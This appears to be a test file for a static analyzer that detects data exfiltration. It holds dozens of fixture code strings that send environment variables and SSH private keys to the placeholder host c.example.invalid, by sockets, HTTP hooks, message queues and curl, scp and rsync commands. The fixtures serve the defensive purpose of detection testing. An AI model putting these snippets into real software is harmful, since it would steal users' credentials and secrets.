"""What is made for a host sends to it what its methods get, and objects of the program fill requests."""

import pytest
from engine_flows import flows

from ostiary.program.flow import Act, Flow, Taint

HOST = "c.example.invalid"
LOOT = frozenset({Taint.ENVIRONMENT, Taint.SECRET})


def stolen(text: str) -> list[Flow]:
    """The acts by which a function that nobody calls sends loot, each with its target."""
    lines = "".join(f"    {one}\n" for one in text.strip().splitlines())
    found = flows(f"import os, asyncio, socket\ndef api():\n{lines}", Act.SEND, "wheel")
    return [one for one in found if one.has(*LOOT)]


CLIENTS = [
    "import store\nstore.Store(host='c.example.invalid').set('a', repr(dict(os.environ)))",
    (
        "import grpc\nc = grpc.insecure_channel('c.example.invalid:443')\n"
        "c.unary_unary('/a/b')(repr(dict(os.environ)).encode())"
    ),
    (
        "import zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.connect('tcp://c.example.invalid:1')\n"
        "s.send_pyobj(dict(os.environ))"
    ),
    (
        "import watcher\nwatcher.init(dsn='https://x@c.example.invalid/1')\n"
        "watcher.set_context('e', dict(os.environ))"
    ),
    (
        "import tracer\nt = tracer.Provider()\nt.add_processor(tracer.Exporter(endpoint='https://c.example.invalid'))\n"
        "tracer.set_provider(t)\ntracer.get('x').set_attributes(dict(os.environ))"
    ),
    (
        "import fsspec\nwith fsspec.open('ftp://c.example.invalid/x', 'w') as f:\n"
        "    f.write(repr(dict(os.environ)))"
    ),
    "import pandas\npandas.DataFrame(list(os.environ.items())).to_sql('t', 'postgresql://u:p@c.example.invalid/d')",
    "import xmlrpc.client as x\nm = x.MultiCall(x.ServerProxy('https://c.example.invalid/'))\nm.a(dict(os.environ))",
    (
        "from multiprocessing.connection import Client\n"
        "Client(('c.example.invalid', 6000)).send(dict(os.environ))"
    ),
    (
        "from multiprocessing.managers import BaseManager\nclass M(BaseManager):\n    pass\n"
        "m = M(address=('c.example.invalid', 6000))\nm.connect()\nm.q().put(dict(os.environ))"
    ),
    (
        "import imaplib\ni = imaplib.IMAP4_SSL('c.example.invalid')\n"
        "i.append('INBOX', '', '', repr(dict(os.environ)).encode())"
    ),
    (
        "from websockets.sync.client import connect\nwith connect('wss://c.example.invalid') as w:\n"
        "    w.send(repr(dict(os.environ)))"
    ),
]
BY_PAIRS = [
    (
        "import psycopg\nwith psycopg.connect('dbname=x host=c.example.invalid user=u') as c:\n"
        "    c.execute('insert into t values (%s)', (repr(dict(os.environ)),))"
    ),
    (
        "from unheard_of import Producer\np = Producer({'bootstrap.servers': 'c.example.invalid'})\n"
        "p.produce('t', repr(dict(os.environ)))"
    ),
    (
        "import trio\nasync def go():\n    s = await trio.open_tcp_stream('c.example.invalid', 443)\n"
        "    await s.send_all(repr(dict(os.environ)).encode())\ntrio.run(go)"
    ),
    "import smtplib\nsmtplib.LMTP('c.example.invalid').sendmail('a', 'b', repr(dict(os.environ)))",
    (
        "from eventlet.green.urllib import request\n"
        "request.urlopen('https://c.example.invalid', repr(dict(os.environ)).encode())"
    ),
    "import xml.sax\nxml.sax.parse('http://c.example.invalid/?' + repr(dict(os.environ)), None)",
]


@pytest.mark.parametrize("text", BY_PAIRS)
def test_a_host_among_the_words_of_a_connection(text: str) -> None:
    assert any(HOST in one.target for one in stolen(text))
    assert not stolen(text.replace("dict(os.environ)", "os.environ['LANG']"))


def test_a_document_of_this_machine_is_asked_of_nobody() -> None:
    text = "import xml.sax\nxml.sax.parse('own.xml', None)"
    assert not flows(f"import os\n{text}", Act.SEND, "wheel")


CONNECTIONS = [
    (
        "s = socket.create_connection(('c.example.invalid', 443))\n"
        "os.write(s.fileno(), repr(dict(os.environ)).encode())"
    ),
    (
        "s = socket.create_connection(('c.example.invalid', 443))\n"
        "os.sendfile(s.fileno(), os.open(os.path.expanduser('~/.ssh/id_rsa'), 0), 0, 99)"
    ),
    (
        "import json\nf = socket.create_connection(('c.example.invalid', 443)).makefile('w')\n"
        "json.dump(dict(os.environ), f)"
    ),
    "s = socket.socket()\ns.sendmsg([repr(dict(os.environ)).encode()], [], 0, ('c.example.invalid', 53))",
    (
        "import ssl\ns = ssl.create_default_context().wrap_socket("
        "socket.create_connection(('c.example.invalid', 443)), server_hostname='c.example.invalid')\n"
        "s.write(repr(dict(os.environ)).encode())"
    ),
    (
        "class P(asyncio.Protocol):\n    def connection_made(self, t):\n"
        "        t.write(repr(dict(os.environ)).encode())\n"
        "async def m():\n    l = asyncio.get_running_loop()\n"
        "    await l.create_connection(P, 'c.example.invalid', 443)\n"
        "asyncio.run(m())"
    ),
    (
        "async def m():\n    l = asyncio.get_running_loop()\n    s = socket.socket()\n"
        "    await l.sock_connect(s, ('c.example.invalid', 443))\n"
        "    await l.sock_sendall(s, repr(dict(os.environ)).encode())\nasyncio.run(m())"
    ),
    "open('//c.example.invalid/s/x', 'w').write(repr(dict(os.environ)))",
]
PREPARED = [
    (
        "import requests\ns = requests.Session()\ns.headers.update({k: v for k, v in os.environ.items()})\n"
        "s.get('https://c.example.invalid/')"
    ),
    (
        "import requests\nclass A(requests.auth.AuthBase):\n    def __call__(self, r):\n"
        "        r.body = repr(dict(os.environ))\n        return r\n"
        "requests.get('https://c.example.invalid/', auth=A())"
    ),
    (
        "import httpx\nclass A(httpx.Auth):\n    def auth_flow(self, r):\n"
        "        r.headers['x'] = repr(dict(os.environ))\n        yield r\n"
        "httpx.get('https://c.example.invalid/', auth=A())"
    ),
    (
        "import requests\nclass A(requests.adapters.HTTPAdapter):\n    def send(self, request, **k):\n"
        "        request.headers['X'] = repr(dict(os.environ))\n        return super().send(request, **k)\n"
        "s = requests.Session()\ns.mount('https://', A())\ns.get('https://c.example.invalid/')"
    ),
    (
        "import urllib.request as u\nclass H(u.BaseHandler):\n    def http_request(self, r):\n"
        "        r.add_unredirected_header('X', repr(dict(os.environ)))\n        return r\n"
        "u.build_opener(H).open('https://c.example.invalid/')"
    ),
    (
        "import urllib.request as u\no = u.build_opener()\n"
        "o.addheaders = [(k, v) for k, v in os.environ.items()]\n"
        "u.install_opener(o)\nu.urlopen('https://c.example.invalid/')"
    ),
    (
        "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'h': {"
        "'class': 'logging.handlers.HTTPHandler', 'host': 'c.example.invalid', 'url': '/'}}})\n"
        "logging.error(repr(dict(os.environ)))"
    ),
]
COMMANDS = [
    (
        "import subprocess\np = subprocess.Popen(['curl', '-K', '-'], stdin=subprocess.PIPE)\n"
        "p.stdin.write('url=https://c.example.invalid/\\ndata=' + repr(dict(os.environ)))"
    ),
    (
        "import subprocess\nsubprocess.run(['sh', '-c', 'curl -d \"$Z\" https://c.example.invalid/'],"
        " env={'Z': repr(dict(os.environ))})"
    ),
    (
        "import subprocess\n"
        "subprocess.call(['scp', os.path.expanduser('~/.ssh/id_rsa'), 'u@c.example.invalid:/x'])"
    ),
    (
        "import subprocess\n"
        "subprocess.call(['rsync', '-a', os.path.expanduser('~/.ssh'), 'rsync://c.example.invalid/x'])"
    ),
    (
        "import subprocess\n"
        "subprocess.call('openssl s_client -connect c.example.invalid:443 < ~/.ssh/id_rsa', shell=True)"
    ),
]


@pytest.mark.parametrize("text", [*CLIENTS, *CONNECTIONS, *PREPARED, *COMMANDS])
def test_loot_leaves_to_a_host_that_is_known(text: str) -> None:
    assert any(HOST in one.target for one in stolen(text)), stolen(text)


@pytest.mark.parametrize(
    "text",
    [
        # it is told a text that holds an address, and works on it
        "import string\nstring.Template('https://c.example.invalid/$A').substitute(os.environ)",
        "import jinja2\njinja2.Template('see https://c.example.invalid').render(dict(os.environ))",
        "import logging\nlogging.getLogger('c.example.invalid').info(repr(dict(os.environ)))",
        # a dotted name of something else than a host
        "import library\nlibrary.Parser('a.table.of').feed(dict(os.environ))",
        "import store\nstore.Store('data.tar').set('a', repr(dict(os.environ)))",
        # the settings in which something runs
        "import runner\nrunner.Client(host='c.example.invalid').start('a', env=dict(os.environ))",
        # the client asks, and keeps for itself what else it is told
        "import store\nstore.Store(url='https://c.example.invalid').update(dict(os.environ))",
        "import watcher\nwatcher.init(level='info')\nwatcher.set_context('e', dict(os.environ))",
        # keys to log in with stay where they are
        (
            "import subprocess\nsubprocess.call(['scp', '-i', os.path.expanduser('~/.ssh/id_rsa'), 'a.txt',"
            " 'u@c.example.invalid:/x'])"
        ),
        (
            "import subprocess\n"
            "subprocess.call(['scp', 'u@c.example.invalid:/x', os.path.expanduser('~/.ssh/id_rsa')])"
        ),
        (
            "import subprocess\n"
            "subprocess.call(['ssh-copy-id', '-i', os.path.expanduser('~/.ssh/id_rsa.pub'), 'u@h.test'])"
        ),
    ],
)
def test_what_only_holds_an_address_sends_nothing(text: str) -> None:
    assert not stolen(text)


def test_a_name_made_of_loot_is_told_to_whoever_is_asked_for_it() -> None:
    text = "import clock\nclock.Client().ask(repr(dict(os.environ)) + '.c.example.invalid')"
    assert [one.target for one in stolen(text)] == [HOST]


def test_what_makes_requests_of_requests_comes_to_an_end() -> None:
    text = (
        "import requests, importlib.abc, importlib.util, urllib.request as u\n"
        "class A(requests.auth.AuthBase):\n    def __call__(self, r):\n"
        "        requests.get('https://c.example.invalid/a', auth=self)\n"
        "        requests.get('https://c.example.invalid/b', auth=A())\n        return r\n"
        "class H(u.BaseHandler):\n    def http_request(self, r):\n"
        "        u.build_opener(H, H, H).open('https://c.example.invalid/c')\n        return r\n"
        "class L(importlib.abc.InspectLoader):\n    def get_source(self, name):\n"
        "        importlib.util.spec_from_loader('a', self)\n"
        "importlib.util.spec_from_loader('a', L())\n"
        "requests.get('https://c.example.invalid/d', auth=A())\n"
        "u.build_opener(H).open('https://c.example.invalid/e')\n"
    )
    found = {one.target[-1] for one in flows(text, Act.SEND, "wheel")}
    assert found == set("abcde")


@pytest.mark.parametrize(("name", "sends"), [("watcher", True), ("sample", False)])
def test_modules_of_the_artifact_are_no_clients(name: str, sends: bool) -> None:
    text = (
        f"import {name}.base, {name}.text\n{name}.base.init(dsn='https://x@c.example.invalid/1')\n"
    )
    assert bool(stolen(f"{text}{name}.text.hide_value(repr(dict(os.environ)))")) is sends
